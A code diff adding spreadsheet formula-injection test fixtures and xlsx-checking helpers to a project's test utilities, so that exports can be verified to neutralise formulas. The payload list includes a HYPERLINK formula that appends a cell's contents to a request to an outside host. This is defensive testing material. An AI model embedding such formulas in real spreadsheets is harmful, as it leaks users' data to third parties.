@@ -17,6 +17,7 @@ from __future__ import annotations
 
 import datetime as dt
 import random
+import re
 from types import SimpleNamespace
 from typing import Any
 
@@ -187,3 +188,49 @@ def decode_qr_in_html(html: str | bytes, *, index: int = 0) -> str:
     svgs = re.findall(r"<svg\b[^>]*\bclass=\"segno\".*?</svg>", text, flags=re.S)
     assert len(svgs) > index, f"the page has {len(svgs)} QR code(s)"
     return decode_qr_svg(svgs[index])
+
+
+# Texts that a spreadsheet program could run as a formula (OWASP), for the export tests of every format.
+FORMULA_PAYLOADS = (
+    "=1+2",
+    '=HYPERLINK("http://example.org/?x="&A1,"点此")',
+    "+86-21-1234",
+    "-5",
+    "@SUM(A1:A2)",
+    "\t=1+2",
+    "\r=1+2",
+    "'=1+2",
+    "#N/A",
+)
+
+
+def ooxml_text(value: str) -> str:
+    """A stored cell text with OOXML's ``_xHHHH_`` escapes decoded, as Excel and python-calamine read it."""
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)
+
+
+def xlsx_texts(content: Any) -> list[str]:
+    """Every text cell of every sheet of an xlsx (bytes, path or file), as the import reads it back.
+
+    Fails if any cell is a formula, or a text cell begins with a character that makes a formula."""
+    import io
+    from pathlib import Path
+
+    from openpyxl import load_workbook
+
+    from fangkong.core.spreadsheets import FORMULA_TRIGGERS, from_cell
+
+    if isinstance(content, bytes | bytearray):
+        content = io.BytesIO(content)
+    elif isinstance(content, str | Path):
+        content = str(content)
+    texts: list[str] = []
+    for sheet in load_workbook(content).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.value[:1] not in FORMULA_TRIGGERS, (cell.coordinate, cell.value)
+                    # decode OOXML's _xHHHH_ escapes as Excel and the import do (openpyxl keeps them)
+                    texts.append(from_cell(ooxml_text(cell.value)))
+    return texts
